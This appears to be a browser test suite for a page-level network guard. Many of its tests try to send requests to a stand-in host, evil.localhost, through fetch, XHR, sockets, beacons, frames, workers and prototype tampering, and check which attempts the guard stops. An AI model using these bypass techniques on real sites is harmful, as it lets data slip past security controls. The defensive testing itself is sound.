// Ways past the guard of pages: those that it closes, that it stays what the platform has, and those that it leaves open (docs/browser-guard.md lists them).

import assert from 'node:assert/strict'
import test from 'node:test'

import { browser as launched, BROWSERS } from '../support/browsers.mjs'
import { boot, clobbering, FILES, NAMES, opened, OWN, page as html, policy, worker } from '../support/guarded.mjs'
import { PREFIX, site } from '../support/site.mjs'

const SITE = {
  ...FILES,
  '/worker.js': (port) => `fetch('http://evil.localhost:${port}/api/worker').then(() => postMessage('reached'), () => postMessage('stopped'))`,
  '/with-worker': html(boot(' data-worker="/sw.js"')),
  '/sw.js': worker,
  '/any/with-worker': html(boot(' data-worker="/sw.js"')),
  '/pending': html('<script type="module" src="/pending.js"></script>'),
  '/pending.js': (port) => `
    import { protect } from '${PREFIX}dist/browser.js'
    const ready = protect('/hostbound.public.json')
    const outcome = (promise) => promise.then((value) => value.status ?? value, ({ name }) => name)
    const request = new XMLHttpRequest()
    request.open('GET', '/api/pending')
    const loaded = new Promise((resolve) => Object.assign(request, { onload: () => resolve('loaded'), onerror: () => resolve('refused') }))
    request.send()
    const asked = [fetch('/api/waits'), fetch('http://evil.localhost:${port}/api/waits'), loaded]
    const beacon = navigator.sendBeacon('/api/pending')
    const twice = await outcome(protect('/hostbound.public.json').catch(({ code }) => code))
    globalThis.outcome = [...(await Promise.all(asked.map(outcome))), beacon, twice]
    await ready
    globalThis.started = performance.now()`,
  // What people may write into a page, before the guard is there.
  '/clobbered': html(`${boot()}${clobbering}`),
  '/told': html('<script type="module" src="/told.js"></script>'),
  '/told.js': `
    import { protect } from '${PREFIX}dist/browser.js'
    globalThis.told = []
    const onRefusal = ({ url, error }) => {
      globalThis.told.push(url && new URL(url).pathname)
      globalThis.told.push(navigator.sendBeacon('http://evil.localhost/', error.message))
      throw new Error('a mistake of whoever listens')
    }
    globalThis.outcome = await protect('/hostbound.public.json', { onRefusal }).then(({ decision }) => decision, ({ name }) => name)
    globalThis.started = 1`,
}

/** In the page: each way to ask the server at `url` for something, and what it comes to. */
async function tryAll(url) {
  const socketUrl = `${url.replace('http', 'ws')}/socket`
  const outcome = async (attempt) => {
    try {
      return await attempt()
    } catch (error) {
      return error.name
    }
  }
  const loaded = (request) => new Promise((resolve) => {
    request.onload = () => resolve(request.status)
    request.onerror = () => resolve('error')
    request.send()
  })
  class LyingRequest extends Request {
    get url() { return '/api/own' }
  }
  class LyingUrl extends URL {
    get href() { return `${location.origin}/api/own` }
    get origin() { return location.origin }
  }
  let times = 0
  const changing = { toString: () => (times++ === 0 ? `${url}/api/changing` : '/api/own') }
  const attempts = {
    request: () => fetch(new Request(`${url}/api/request`)),
    lyingRequest: () => fetch(new LyingRequest(`${url}/api/lying`)),
    lyingUrl: () => fetch(new LyingUrl(`${url}/api/lying-url`)),
    changing: () => fetch(changing),
    called: () => fetch.call(undefined, `${url}/api/called`),
    applied: () => Reflect.apply(window.fetch, window, [`${url}/api/applied`]),
    based: async () => {
      const base = document.createElement('base')
      base.href = url
      document.head.append(base)
      try {
        return await fetch('/api/based')
      } finally {
        base.remove()
      }
    },
    relative: () => fetch(`//${new URL(url).host}/api/relative`),
    xhrByPrototype: () => {
      const request = new XMLHttpRequest.prototype.constructor()
      XMLHttpRequest.prototype.open.call(request, 'GET', { toString: () => `${url}/api/xhr` })
      return loaded(request)
    },
    xhrSubclass: () => {
      class Own extends XMLHttpRequest {}
      const request = new Own()
      request.open('GET', `${url}/api/subclass`)
      return loaded(request)
    },
    xhrOpenedTwice: () => {
      const request = new XMLHttpRequest()
      request.open('GET', '/api/own')
      request.open('GET', `${url}/api/twice`)
      return loaded(request)
    },
    socketByPrototype: () => void new WebSocket.prototype.constructor(socketUrl).close(),
    socketSubclass: () => void new (class extends WebSocket {})(socketUrl).close(),
    socketByReflection: () => void Reflect.construct(WebSocket, [socketUrl]).close(),
    sourceByPrototype: () => new Promise((resolve) => {
      const source = new EventSource.prototype.constructor(`${url}/events`)
      source.onmessage = () => resolve(source.close())
      source.onerror = () => resolve(source.readyState === 2 ? 'error' : source.close())
    }),
    xhrOpenedWithin: () => {
      const request = new XMLHttpRequest()
      request.onreadystatechange = () => {
        request.onreadystatechange = null
        request.open('GET', `${url}/api/within`)
      }
      request.open('GET', '/api/own')
      return loaded(request)
    },
    cacheAdd: async () => (await caches.open('app')).add(`${url}/api/cached`),
    cacheAddAll: async () => (await caches.open('app')).addAll(new Set([new Request(`${url}/api/cached-too`)])),
    ...(globalThis.WebSocketStream && { socketStream: async () => {
      const stream = new WebSocketStream(socketUrl)
      await stream.opened
      stream.close()
    } }),
    beaconByPrototype: () => Navigator.prototype.sendBeacon.call(navigator, `${url}/api/beacon`) || 'false',
  }
  const outcomes = {}
  for (const [name, attempt] of Object.entries(attempts)) outcomes[name] = ((value) => (value instanceof Response ? value.status : value))(await outcome(attempt))
  return outcomes
}

/** In the page: the events of a request whose answer is withheld, and what can be read in them. */
function withheld(port) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest()
    const events = []
    for (const kind of ['readystatechange', 'loadstart', 'load', 'error', 'abort', 'loadend']) {
      request.addEventListener(kind, () => {
        events.push(`${kind} ${request.readyState} ${request.responseText}`)
        if (kind === 'error') resolve(events)
      })
    }
    request.open('GET', `http://api.localhost:${port}/to/evil.localhost:${port}/api/withheld`)
    request.send()
    // What tells nothing does not stand for the answer.
    request.dispatchEvent(new Event('readystatechange'))
  })
}

/** The third is the page's own; the fourth, which has the answer's headers, Chromium tells its listeners before the guard's. */
const WITHHELD = (name) => [
  'readystatechange 1 ', 'loadstart 1 ', 'readystatechange 1 ', ...(name === 'Chromium' ? ['readystatechange 2 '] : []),
  'readystatechange 4 ', 'abort 4 ', 'loadend 4 ', 'error 0 ',
]

for (const name of Object.keys(BROWSERS)) {
  test(name, { timeout: 60_000 }, async (t) => {
    const browser = await launched(t, name, NAMES)
    if (browser === undefined) return

    await t.test('every way to the wrapped APIs leads through the guard', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN)
      served.asked()
      const works = await page.evaluate(tryAll, served.at('api.localhost', ''))
      for (const [attempt, outcome] of Object.entries(works)) assert.ok([200, true, undefined, null].includes(outcome), `${attempt}: ${outcome}`)
      await served.askedOf(Object.keys(works).length - 3)
      for (const asking of [page, await opened(t, browser, served, OWN, '/clobbered')]) {
        const refused = await asking.evaluate(tryAll, served.at('evil.localhost', ''))
        for (const [attempt, outcome] of Object.entries(refused)) assert.ok(['TypeError', 'error', 'SecurityError', 'false'].includes(outcome), `${attempt}: ${outcome}`)
      }
      assert.deepEqual(served.asked().filter((line) => line.includes('evil')), [])
    })

    await t.test('what is judged is what is asked for', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN)
      served.asked()
      const outcomes = await page.evaluate(async (url) => {
        const base = document.createElement('base')
        base.href = url
        const moving = (value) => {
          document.head.append(base)
          return value
        }
        const loaded = (request, body) => new Promise((resolve) => {
          request.onload = () => resolve(request.responseText)
          request.onerror = () => resolve('error')
          try {
            request.send(body)
          } catch (error) {
            resolve(error.name)
          }
        })
        const socket = new WebSocket('/socket', { [Symbol.iterator]: () => moving([][Symbol.iterator]()) })
        base.remove()
        const beacon = navigator.sendBeacon('/api/beacon', { toString: () => moving('x') })
        base.remove()
        const named = new XMLHttpRequest()
        let times = 0
        named.open('GET', '/api/named', true, { toString: () => (times += 1, moving('user')) })
        base.remove()
        const user = [await loaded(named), times]
        const reopened = new XMLHttpRequest()
        reopened.open('POST', '/api/reopened')
        const body = await loaded(reopened, { toString: () => (reopened.open('POST', `${url}/api/reopened`), 'x') })
        const marked = new XMLHttpRequest()
        marked.open('POST', '/api/marked')
        const header = await loaded(marked, { toString: () => (marked.setRequestHeader('authorization', 'x'), 'x') })
        return [socket.url, beacon, user, body, header]
      }, served.at('evil.localhost', ''))
      const { port } = served
      assert.deepEqual(outcomes, [`ws://${OWN}:${port}/socket`, true, ['error', 1], 'InvalidStateError', 'InvalidStateError'])
      assert.deepEqual(await served.askedOf(2), [`POST ${OWN}/api/beacon`, `WS ${OWN}/socket`])
    })

    await t.test('a listener that throws, or asks for something itself, opens nothing and is not called for that', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN, '/told')
      const events = await page.evaluate(withheld, served.port)
      assert.deepEqual([events, await page.evaluate(() => globalThis.told)], [WITHHELD(name), ['/api/withheld', false]])
      const foreign = await opened(t, browser, served, 'foreign.example', '/told')
      await foreign.waitForFunction(() => globalThis.started !== undefined)
      assert.deepEqual(await foreign.evaluate(() => [globalThis.outcome, globalThis.told, document.querySelector('main') !== null]), ['PageError', [null, false], true])
    })

    await t.test('what scripts change afterwards opens nothing', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN)
      served.asked()
      const outcomes = await page.evaluate(async (url) => {
        const keep = [Promise.prototype.catch, JSON.parse]
        const lie = () => ({ decision: 'allow', reported: [] })
        JSON.parse = lie
        Object.defineProperty(Request.prototype, 'url', { get: () => '/api/own' })
        Headers.prototype.forEach = Array.prototype.push = WeakMap.prototype.get = Promise.prototype.catch = lie
        const real = URL.prototype
        globalThis.URL = globalThis.Request = globalThis.Proxy = globalThis.CustomEvent = class {}
        for (const key of ['hash', 'username', 'password']) Object.defineProperty(real, key, { set() { this.href = location.origin } })
        EventTarget.prototype.dispatchEvent = Event.prototype.stopImmediatePropagation = () => { throw new Error('not this one') }
        Reflect.apply = Reflect.construct = lie
        const wrapped = []
        Object.prototype.get = (target, key) => (wrapped.push(key), target[key])
        void [fetch.name, WebSocket.name, XMLHttpRequest.prototype.send.name]
        delete Object.prototype.get
        const fetched = await fetch(`${url}/api/fetch`).then(({ status }) => status, ({ name }) => name)
        const request = new XMLHttpRequest()
        request.open('GET', `${url}/api/xhr`)
        const loaded = await new Promise((resolve) => {
          request.onload = () => resolve('loaded')
          request.onerror = () => resolve('error')
          request.send()
        })
        let socket
        try {
          socket = new WebSocket(`${url.replace('http', 'ws')}/socket`).readyState
        } catch (error) {
          socket = error.name
        }
        const beacon = navigator.sendBeacon(`${url}/api/beacon`)
        ;[Promise.prototype.catch, JSON.parse] = keep
        return [fetched, loaded, socket, beacon, wrapped]
      }, served.at('evil.localhost', ''))
      assert.deepEqual(outcomes, ['TypeError', 'error', 'SecurityError', false, []])
      assert.deepEqual(served.asked(), [])
    })

    await t.test('the wrappers are what the platform has', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN)
      const frame = await page.evaluate(async (url) => {
        const fresh = document.body.appendChild(document.createElement('iframe')).contentWindow
        const shape = (scope) => [
          scope.fetch.name, scope.fetch.length, 'prototype' in scope.fetch, String(scope.fetch).includes('[native code]'),
          scope.XMLHttpRequest.name, scope.XMLHttpRequest.DONE, scope.XMLHttpRequest.prototype.open.length, scope.XMLHttpRequest.prototype.send.name,
          scope.WebSocket.name, scope.WebSocket.length, scope.WebSocket.OPEN, scope.WebSocket.prototype.OPEN, scope.WebSocket.prototype.constructor === scope.WebSocket,
          scope.EventSource.name, scope.EventSource.CLOSED, scope.EventSource.length, scope.Navigator.prototype.sendBeacon.length,
          ...['fetch', 'WebSocket', 'EventSource'].map((key) => JSON.stringify(Object.getOwnPropertyDescriptor(scope, key))),
          Object.keys(Object.getOwnPropertyDescriptors(scope.WebSocket)).sort().join(),
        ]
        const thrown = async (attempt) => {
          try {
            await attempt()
            return 'nothing'
          } catch (error) {
            return `${error.name} ${error instanceof TypeError}`
          }
        }
        const errors = async (scope) => [
          await thrown(() => scope.fetch()), await thrown(() => scope.fetch('http://[')), await thrown(() => scope.fetch('/', { method: 'a b' })), await thrown(() => scope.fetch(Symbol('a'))),
          await thrown(() => new scope.WebSocket()), await thrown(() => scope.WebSocket('ws://a')), await thrown(() => new scope.WebSocket('http://[')), await thrown(() => new scope.EventSource('http://[')),
          await thrown(() => new scope.XMLHttpRequest().send()), await thrown(() => new scope.XMLHttpRequest().open('GET')), await thrown(() => new scope.XMLHttpRequest().open('GET', 'http://[')),
          await thrown(() => scope.navigator.sendBeacon()),
        ].map((text) => text.split(' ')[0])
        const same = [JSON.stringify(shape(window)) === JSON.stringify(shape(fresh)), JSON.stringify(await errors(window)) === JSON.stringify(await errors(fresh))]
        class Own extends WebSocket {
          constructor(...parameters) {
            super(...parameters)
            this.kind = new.target.name
          }
        }
        const socket = new Own(`${url.replace('http', 'ws')}/socket`)
        const isOwn = [socket instanceof Own, socket instanceof WebSocket, socket.kind]
        socket.close()
        const controller = new AbortController()
        const aborted = fetch('/api/x', { signal: controller.signal }).then(() => 'answered', ({ name }) => name)
        controller.abort()
        const body = await fetch('/api/x').then((response) => response.body.getReader().read()).then(({ value }) => value.length > 0)
        const posted = await fetch(new Request('/api/x', { method: 'POST', body: 'x' })).then(({ status }) => status)
        const local = [await (await fetch('data:text/plain,a')).text(), await (await fetch(URL.createObjectURL(new Blob(['b'])))).text()]
        return { same, isOwn, aborted: await aborted, body, posted, local }
      }, served.at('api.localhost', ''))
      assert.deepEqual(frame, { same: [true, true], isOwn: [true, true, 'Own'], aborted: 'AbortError', body: true, posted: 200, local: ['a', 'b'] })
    })

    await t.test('before the guard is ready `fetch` waits, and all else is refused', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN, '/pending')
      assert.deepEqual(await page.evaluate(() => globalThis.outcome), [200, 'TypeError', 'refused', false, 'HOSTBOUND_OPTION'])
      assert.deepEqual(served.asked().filter((line) => line.includes('/api/')), [`GET ${OWN}/api/waits`])
    })

    await t.test('in report mode a page starts under any name, and tells what would have been refused', async (t) => {
      const served = await site(t, { ...SITE, '/hostbound.public.json': (port) => JSON.stringify({ ...policy(port), mode: 'report' }) })
      const page = await opened(t, browser, served, 'foreign.example')
      const told = await page.evaluate(async (url) => {
        const refusals = []
        addEventListener('hostbound-refusal', ({ detail: { verdict, error } }) => refusals.push([verdict.decision, verdict.reported[0].reason, error.code]))
        return [(await fetch(`${url}/api/x`)).status, refusals]
      }, served.at('evil.localhost', ''))
      assert.deepEqual(told, [200, [['allow', 'destination_not_allowed', 'HOSTBOUND_PAGE']]])
    })

    await t.test('frames and workers have an API of their own, which the service worker alone guards', async (t) => {
      const served = await site(t, SITE)
      const ask = (page) => page.evaluate(async (url) => {
        const { contentWindow } = document.body.appendChild(document.createElement('iframe'))
        const framed = await contentWindow.fetch(`${url}/api/frame`).then(() => 'reached', () => 'stopped')
        const worker = new Worker('/worker.js')
        return [framed, await new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)))]
      }, served.at('evil.localhost', ''))
      const page = await opened(t, browser, served, OWN)
      assert.deepEqual(await ask(page), ['reached', 'reached'])
      const guarded = await opened(t, browser, served, OWN, '/with-worker')
      await guarded.evaluate(() => navigator.serviceWorker.ready)
      await guarded.reload()
      served.asked()
      // A frame that is empty is nobody's client yet, for Chromium.
      const passes = name === 'Chromium'
      assert.deepEqual(await ask(guarded), [passes ? 'reached' : 'stopped', 'stopped'])
      assert.deepEqual(served.asked().filter((line) => line.includes('evil')), passes ? ['GET evil.localhost/api/frame'] : [])
    })

    await t.test('what passes the service worker', async (t) => {
      const served = await site(t, SITE)
      const page = await opened(t, browser, served, OWN, '/any/with-worker')
      await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated', { timeout: 5000 })
      served.asked()
      // Those that it stops are made first, so that theirs would come first.
      await page.evaluate((url) => {
        const add = (tag, set, to = document.body) => to.append(Object.assign(document.createElement(tag), set))
        const asking = (name) => `<script>fetch('${url}/api/${name}')</script>`
        add('iframe', { srcdoc: asking('srcdoc') })
        for (const rel of ['prefetch', 'stylesheet', 'manifest']) add('link', { rel, href: `${url}/api/${rel}` }, document.head)
        new Worker(URL.createObjectURL(new Blob([`fetch('${url}/api/blob-worker')`])))
        add('iframe', { src: URL.createObjectURL(new Blob([asking('blob-frame')], { type: 'text/html' })) })
        add('video', { src: `${url}/api/video` })
        add('link', { rel: 'icon', href: `${url}/api/icon` }, document.head)
        add('iframe', { sandbox: 'allow-scripts', srcdoc: asking('sandboxed') })
        add('iframe', { src: `data:text/html,${encodeURIComponent(asking('data-frame'))}` })
        new Worker(`data:text/javascript,${encodeURIComponent(`fetch('${url}/api/data-worker')`)}`)
        add('object', { data: `${url}/api/object`, type: 'image/svg+xml' })
        add('embed', { src: `${url}/api/embed`, type: 'image/svg+xml' })
      }, served.at('evil.localhost', ''))
      const passes = ['data-frame', 'data-worker', 'embed', 'object', 'sandboxed', ...(name === 'Chromium' ? ['blob-frame', 'icon'] : ['video'])]
      const seen = new Set()
      while (seen.size < passes.length) for (const line of await served.askedOf(1)) if (line.includes('evil')) seen.add(line)
      assert.deepEqual([...seen].sort(), passes.map((path) => `GET evil.localhost/api/${path}`).sort())
    })
  })
}
